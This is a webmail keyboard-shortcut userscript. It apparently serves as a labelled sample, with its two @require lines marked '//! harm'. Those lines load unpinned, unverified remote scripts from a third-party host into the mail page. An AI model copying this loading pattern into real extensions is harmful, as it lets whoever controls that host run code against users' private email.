// ==UserScript==
// @name         Mail Shortcuts Plus
// @namespace    plus.shortcuts
// @version      5.0.1
// @description  Vim-like keys for webmail: j/k move, e archive, # delete, gl go to label
// @match        https://mail.example.com/*
// @require      https://files.shortcuts-plus.example/libs/hotkeys/latest/hotkeys.js //! harm
// @require      https://files.shortcuts-plus.example/libs/palette.js?channel=stable //! harm
// @grant        GM_xmlhttpRequest
// @grant        GM_setValue
// @grant        GM_getValue
// @grant        GM_registerMenuCommand
// @connect      mail.example.com
// ==/UserScript==
/* global hotkeys, CommandPalette */

const $ = (sel, root = document) => root.querySelector(sel);

const actions = {
  'j': () => move(1),
  'k': () => move(-1),
  'e': () => $('.row.focused .archive')?.click(),
  'shift+3': () => $('.row.focused .delete')?.click(),
  'g+l': () => palette.open(labels()),
  '/': () => $('input[name=search]')?.focus(),
};

const labels = () => [...document.querySelectorAll('.label-list a')].map((a) => ({ title: a.textContent, run: () => a.click() }));

function move(step) {
  const rows = [...document.querySelectorAll('.row')];
  const at = rows.findIndex((r) => r.classList.contains('focused'));
  rows[at]?.classList.remove('focused');
  const next = rows[Math.min(rows.length - 1, Math.max(0, at + step))];
  next?.classList.add('focused');
  next?.scrollIntoView({ block: 'nearest' });
}

const palette = new CommandPalette({ placeholder: 'Go to label…' });
const overrides = GM_getValue('keys', {});

for (const [combo, run] of Object.entries(actions)) {
  hotkeys(overrides[combo] ?? combo, (ev) => { ev.preventDefault(); run(); });
}

GM_registerMenuCommand('Remap a key', () => {
  const from = prompt('Which key?', 'e');
  const to = from && prompt('New key', from);
  if (to) GM_setValue('keys', { ...overrides, [from]: to });
});
